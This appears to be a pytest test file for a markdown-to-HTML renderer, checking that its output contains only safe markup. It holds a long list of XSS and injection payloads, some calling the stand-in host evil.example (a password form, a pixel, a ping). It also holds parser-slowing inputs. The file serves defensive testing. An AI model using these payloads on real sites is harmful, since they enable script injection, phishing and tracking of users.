import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracker.core.markdown import Heading, headings, render, render_inline, render_note, render_plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.example';</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password><button>送出</button></form>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0' class='modal' id='csrf-token'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/&#9;/evil.example'>x</a>",
    "<a href='https://a.example' target=_blank rel=opener ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https://a.example 'title\" onmouseover=alert(1) x=\"')",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "![x](https://evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "# 標題 {: onclick=alert(1) style=color:red }",
    "文字\n{: onclick=alert(1) class='btn btn-danger' id=csrf }",
    "*x*{: onmouseover=alert(1) }",
    "``` {: onclick=alert(1) .btn }\nx\n```",
    '!!! danger "<script>alert(1)</script>"\n    x',
    '!!! danger" onclick="alert(1)\n    x',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "註[^1]\n\n[^1]: <script>alert(1)</script>",
    "名詞\n:   <img src=x onerror=alert(1)>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
SAFE_TAGS = frozenset(
    re.findall(
        r"\w+",
        """a abbr b blockquote br code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img kbd li
        mark ol p pre s strong sub summary sup table tbody td th thead tr ul""",
    )
)
SAFE_ATTRIBUTES = {"align", "alt", "class", "height", "href", "id", "rel", "src", "start", "tabindex", "title", "width"}
SAFE_CLASSES = re.compile(
    r"admonition|admonition-title|danger|footnote(-ref|-backref)?|note|tip|warning|language-[a-z0-9-]+"
)


class Page(HTMLParser):
    """Everything that a browser would take for markup."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert page.odd == []
    for tag, attributes in page.tags:
        assert tag in SAFE_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        for name in ("href", "src"):
            address = re.sub(r"[\x00-\x20]", "", attributes.get(name) or "")
            assert re.match(r"(https?://|mailto:|(?![a-z][a-z0-9+.-]*:))", address, re.IGNORECASE), address
            assert not re.match(r"[\\/]{2}", address), address
        for word in (attributes.get("class") or "").split():
            assert SAFE_CLASSES.fullmatch(word)
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"
        if tag == "img":
            assert not re.match("https?:", attributes.get("src") or "")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_reaches_the_page_as_markup(text: str) -> None:
    for wrapped in (text, f"前文 {text} 後文", f"- {text}", f"> {text}", f"## {text}"):
        for html in (render(wrapped), render_note(wrapped), render_inline(wrapped), render(wrapped, link=str)):
            assert_harmless(html)


@given(
    st.lists(
        st.sampled_from(HOSTILE) | st.text("<>[]()!#*_`\"'={}:/\\ \n\t|&;-雲a1", max_size=20) | st.text(max_size=8),
        max_size=6,
    ).map("".join)
)
def test_no_mixture_of_hostile_texts_reaches_the_page_as_markup(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(render_note(text))
    assert_harmless(render_inline(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_has_no_markup_left_to_show(text: str) -> None:
    assert "<p>" not in render_plain(text)
    assert "{:" not in render_plain("# 標題 {: #id }")


def test_a_guide_has_anchors_tables_callouts_code_and_definitions() -> None:
    html = render(
        "## 何時使用 {: #when }\n\n| 雲 | 費用 |\n|---|---:|\n| Azure | 1 |\n\n"
        '!!! warning "小心"\n    先備份。\n\n```bash\naz login\n```\n\n名詞\n:   說明\n\n- [ ] 不是方框\n'
    )

    assert '<h2 id="when">何時使用</h2>' in html
    assert '<td align="right">1</td>' in html
    assert '<div class="admonition warning">\n<p class="admonition-title">小心</p>' in html
    assert '<code class="language-bash">az login' in html
    assert "<dt>名詞</dt>\n<dd>說明</dd>" in html


def test_a_heading_without_an_anchor_is_reached_by_its_own_words() -> None:
    assert headings("## 何時使用\n\n### Cut-over night\n\n## 何時使用 {: #again }\n") == (
        Heading(2, "何時使用", "何時使用"),
        Heading(3, "cut-over-night", "Cut-over night"),
        Heading(2, "again", "何時使用"),
    )


def test_links_of_a_guide_can_be_led_elsewhere_and_anchors_stay() -> None:
    html = render("[a](../test/01-a.en.md#b) [c](#d)", link=lambda address: f"/playbooks?from={address}")

    assert 'href="/playbooks?from=../test/01-a.en.md#b"' in html
    assert 'href="#d"' in html


def test_a_link_that_is_led_to_a_foreign_scheme_is_still_removed() -> None:
    assert_harmless(render("[a](b.md)", link=lambda _: "javascript:alert(1)"))


def test_one_line_comes_without_a_paragraph() -> None:
    assert render_inline("**簽認** `p95` 與 [說明](a.md)") == (
        '<strong>簽認</strong> <code>p95</code> 與 <a href="a.md" rel="noopener noreferrer">說明</a>'
    )


def test_markup_in_a_note_is_shown_as_it_was_typed() -> None:
    assert "&lt;b&gt;p95 &lt; 800&lt;/b&gt;" in render_note("<b>p95 < 800</b>")
    assert "&lt;script&gt;" in render_note("<script>\nalert(1)\n</script>")


def test_headings_of_a_note_are_small_and_have_no_anchor() -> None:
    assert render_note("# 一\n\n## 二\n\n###### 六") == "<h4>一</h4>\n<h5>二</h5>\n<h6>六</h6>"


def test_a_note_shows_no_image() -> None:
    assert "<img" not in render_note("![圖](a.png) ![圖][x]\n\n[x]: a.png")


def test_a_note_keeps_the_lines_a_person_typed() -> None:
    assert render_note("第一行\n第二行") == "<p>第一行<br>\n第二行</p>"


def test_a_list_right_after_a_line_is_a_list() -> None:
    assert render_note("待辦：\n- 甲\n- 乙") == "<p>待辦：</p>\n<ul>\n<li>甲</li>\n<li>乙</li>\n</ul>"
    assert "<ol>" in render_note("待辦：\n1. 甲\n2. 乙")


def test_code_in_a_note_is_left_as_it_is() -> None:
    assert render_note("```\na\n- b\n```") == '<pre tabindex="0"><code>a\n- b\n</code></pre>'


def test_a_bare_address_in_a_note_becomes_a_link_up_to_its_punctuation() -> None:
    html = render_note("見 https://a.example/路徑?b=1，與 https://c.example.")

    assert '<a href="https://a.example/路徑?b=1" rel="noopener noreferrer">' in html
    assert '<a href="https://c.example" rel="noopener noreferrer">https://c.example</a>.' in html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![" * 10_000,
        "[a](" * 5_000,
        "[^" * 10_000,
        "<a " * 8_000,
        "\n".join("    " * n + "- a" for n in range(300)),
    ],
    ids=["brackets", "images", "links", "footnotes", "tags", "nested lists"],
)
def test_a_text_made_to_be_slow_is_shown_as_typed_within_seconds(text: str) -> None:
    began = time.perf_counter()

    assert_harmless(render_note(text))
    assert_harmless(render(text))

    assert time.perf_counter() - began < 10
    assert render_note(text).startswith("<pre ")
